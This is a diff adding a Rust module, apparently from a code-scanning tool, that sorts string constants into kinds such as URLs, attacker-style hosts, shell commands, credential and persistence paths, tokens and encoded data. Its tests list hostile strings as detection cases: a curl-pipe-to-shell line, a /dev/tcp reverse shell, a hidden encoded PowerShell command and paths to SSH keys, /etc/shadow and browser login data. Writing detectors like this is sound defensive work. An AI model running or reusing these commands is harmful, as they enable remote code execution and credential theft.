@@ -1,0 +1,206 @@
+//! What a string constant looks like.
+
+mod command;
+mod encoded;
+mod network;
+mod path;
+mod secret;
+
+use std::borrow::Cow;
+
+use foretaste_model::facts::LiteralKind;
+
+pub use encoded::{entropy, is_opaque};
+
+/// How much of a string is looked at for anything but its length.
+const SAMPLE: usize = 16 << 10;
+
+/// The kinds of a string constant, each with the part of it that matters (the whole of it, unless a URL stands inside
+/// a longer text). Empty for the overwhelming majority of strings, and cheap for them.
+pub fn classify(value: &str) -> Vec<(LiteralKind, Cow<'_, str>)> {
+    let mut found = Vec::new();
+    if value.len() < 4 {
+        return found;
+    }
+    let sample = sample(value);
+    let traits = Traits::of(sample.as_bytes());
+    if traits.plain_word() && value.len() < 16 {
+        return found;
+    }
+    network::classify(sample, traits, &mut found);
+    path::classify(sample, traits, &mut found);
+    if traits.blank || traits.slash || traits.dot || value.len() < 32 {
+        command::classify(sample, &mut found);
+    }
+    secret::classify(sample, traits, &mut found);
+    if value.len() >= 40 && !found.iter().any(|(k, _)| *k == LiteralKind::Token) {
+        encoded::classify(value, sample, traits, &mut found);
+    }
+    found
+}
+
+/// Binary data as text: printable ASCII as it is, the rest as `\xNN`, at most `chars` characters.
+pub fn escaped(data: &[u8], chars: usize) -> String {
+    let mut out = String::new();
+    for byte in data {
+        if out.len() + 4 > chars {
+            break;
+        }
+        if (0x20..0x7f).contains(byte) {
+            out.push(char::from(*byte));
+        } else {
+            out.push_str("\\x");
+            out.push(char::from_digit(u32::from(byte >> 4), 16).unwrap_or('0'));
+            out.push(char::from_digit(u32::from(byte & 15), 16).unwrap_or('0'));
+        }
+    }
+    out
+}
+
+fn sample(value: &str) -> &str {
+    let mut end = value.len().min(SAMPLE);
+    while !value.is_char_boundary(end) {
+        end -= 1;
+    }
+    value.get(..end).unwrap_or(value)
+}
+
+/// Which kinds of bytes stand in a string.
+#[derive(Clone, Copy, Debug, Default)]
+struct Traits {
+    dot: bool,
+    slash: bool,
+    colon: bool,
+    blank: bool,
+    backslash: bool,
+    digit: bool,
+    upper: bool,
+    other: bool,
+    non_ascii: bool,
+}
+
+impl Traits {
+    fn of(bytes: &[u8]) -> Self {
+        let mut t = Self::default();
+        for byte in bytes {
+            match byte {
+                b'a'..=b'z' | b'_' => {}
+                b'A'..=b'Z' => t.upper = true,
+                b'0'..=b'9' => t.digit = true,
+                b'.' => t.dot = true,
+                b'/' => t.slash = true,
+                b':' => t.colon = true,
+                b' ' | b'\n' | b'\t' | b'\r' => t.blank = true,
+                b'\\' => t.backslash = true,
+                0x80.. => t.non_ascii = true,
+                _ => t.other = true,
+            }
+        }
+        t
+    }
+
+    /// Letters, digits and underscores only.
+    const fn plain_word(self) -> bool {
+        !(self.dot || self.slash || self.colon || self.blank || self.backslash || self.other)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use LiteralKind as K;
+    use proptest::prelude::*;
+
+    use super::*;
+
+    fn kinds(value: &str) -> Vec<LiteralKind> {
+        classify(value).into_iter().map(|(k, _)| k).collect()
+    }
+
+    #[test]
+    fn strings_that_matter_are_told() {
+        let b64 = "aW1wb3J0IG9zO29zLnN5c3RlbSgnZWNobyBpbmVydCcpO3ByaW50KCdoZWxsbyB3b3JsZCcp";
+        let cases: &[(&str, &[LiteralKind])] = &[
+            ("https://collect.example.invalid/c", &[K::Url]),
+            ("curl -s http://a.invalid/x | sh", &[K::Url, K::Command]),
+            ("evil.example.invalid", &[K::Host]),
+            ("cdn.discordapp.com", &[K::Host]),
+            ("t.me", &[K::Host]),
+            ("185.220.101.7", &[K::IpAddress]),
+            ("185.220.101.7:4444", &[K::IpAddress]),
+            ("2001:db8::1", &[K::IpAddress]),
+            ("~/.ssh/id_rsa", &[K::SecretPath]),
+            (".aws/credentials", &[K::SecretPath]),
+            ("/etc/shadow", &[K::SecretPath]),
+            (
+                "\\Google\\Chrome\\User Data\\Default\\Login Data",
+                &[K::SecretPath],
+            ),
+            ("\\discord\\Local Storage\\leveldb", &[K::SecretPath]),
+            ("~/.bashrc", &[K::PersistencePath]),
+            (
+                "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
+                &[K::PersistencePath],
+            ),
+            (".git/hooks/pre-commit", &[K::PersistencePath]),
+            (
+                "powershell -NoP -W hidden -EncodedCommand SQBFAFgA",
+                &[K::Command],
+            ),
+            ("/bin/sh", &[K::Command]),
+            ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", &[K::Command]),
+            ("cmd.exe", &[K::Command]),
+            (b64, &[K::Encoded]),
+            (
+                "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_abcd",
+                &[K::Url, K::Token],
+            ),
+            ("ghp_0123456789abcdefghijklmnopqrstuvwxyz", &[K::Token]),
+            (
+                "0x52908400098527886E0F7030069857D2E4169EE7",
+                &[K::WalletAddress],
+            ),
+        ];
+        for (value, expected) in cases {
+            assert_eq!(kinds(value), *expected, "{value}");
+        }
+    }
+
+    #[test]
+    fn honest_strings_are_left_alone() {
+        for value in [
+            "setup.py",
+            "README.md",
+            "numpy.random",
+            "index.html",
+            "self.name",
+            "package.json",
+            "1.2.3",
+            "hello world",
+            "utf-8",
+            "application/json",
+            "os.path.join",
+            "foo/bar/baz.txt",
+            "%Y-%m-%d %H:%M:%S",
+            "The quick brown fox jumps over the lazy dog, and runs away from here.",
+            "console_scripts",
+            "Use curl to download the file",
+            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+            "site-packages/numpy/core/include/numpy/ndarraytypes",
+            "test_that_a_very_long_name_is_not_taken_for_base64_text",
+            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/",
+            "a.b.c.d.e",
+            "::",
+            "12:30:45",
+        ] {
+            assert_eq!(kinds(value), [], "{value}");
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn nothing_panics(value in "\\PC{0,200}", data in proptest::collection::vec(any::<u8>(), 0..200)) {
+            let _ = classify(&value);
+            let _ = (is_opaque(&data), escaped(&data, 50));
+        }
+    }
+}
